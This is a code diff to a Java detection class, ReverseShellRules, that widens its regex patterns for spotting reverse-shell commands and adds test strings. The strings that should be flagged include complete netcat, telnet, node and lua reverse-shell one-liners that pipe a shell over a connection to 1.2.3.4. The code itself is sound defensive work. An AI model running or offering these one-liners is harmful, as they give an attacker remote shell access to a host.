@@ -56,7 +56,13 @@ final class ReverseShellRules {
                       + PRIVILEGE
                       + SHELL
                       + "\\s*(?:-i\\s*)?(?:[0-9]>&[0-9]\\s*)?\\|\\s*(?:nc|ncat|netcat)\\b")
-              .finds("\\btelnet\\s" + LINE + "\\|\\s*" + SHELL)
+              .finds(
+                  NETCAT
+                      + " (?:[^\\n;|&\\x00]*\\s)?[0-9]{2,5}\\s[^\\n;|&\\x00]*\\|\\s*"
+                      + PRIVILEGE
+                      + SHELL
+                      + "[^\\n|]*>")
+              .finds("\\btelnet\\s[^\\n|;\\x00]*\\|\\s*" + SHELL)
               .finds("\\bopenssl\\s+s_client\\s" + LINE + "\\|\\s*" + PRIVILEGE + SHELL)
               .finds(
                   "\\| ?openssl\\s+s_client\\s" + LINE + "-connect\\s" + LINE + "\\|\\s*" + SHELL)
@@ -68,7 +74,7 @@ final class ReverseShellRules {
                       + LINE
                       + "(?:exec|system)\\b"
                       + LINE
-                      + "\\bsh\\b)")
+                      + "\\b(?:ba|z|da|k)?sh\\b)")
               .finds("(?i:\\bio::socket::inet\\b" + LINE + "\\b(?:exec|system|fdopen)\\b)")
               .finds(
                   "\\b(?:p?fsockopen|stream_socket_client)\\([^\\x00]*\\b(?:exec|shell_exec|system|passthru|proc_open|popen)\\b")
@@ -118,12 +124,15 @@ final class ReverseShellRules {
                   "require('child_process'); var c=net.connect(4,'1.2.3.4')",
                   "n=require('net');s=n.connect(4,'1.2.3.4');p=c.spawn('/bin/sh')",
                   "lua -e \"require('socket');t=socket.tcp();t:connect('1.2.3.4','9');os.execute('sh -i <&3')\"",
-                  "telnet 1.2.3.4 80 | /bin/bash")
+                  "telnet 1.2.3.4 80 | /bin/bash",
+                  "mknod /tmp/p p && telnet 1.2.3.4 80 0</tmp/p | /bin/bash 1>/tmp/p",
+                  "mkfifo /tmp/q; nc 1.2.3.4 9001 0</tmp/q | /bin/sh >/tmp/q 2>&1")
               .ignores(
                   "/dev/tcp/host/port",
                   "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
                   "nc -zv example.com 443",
                   "nc -l 8080",
+                  "nc -l 8080 | sh-lint",
                   "sync -e everything; func sh",
                   "s = socket.socket(); s.connect((host, port)); s.sendall(data)",
                   "socat is a relay for exec and system calls",
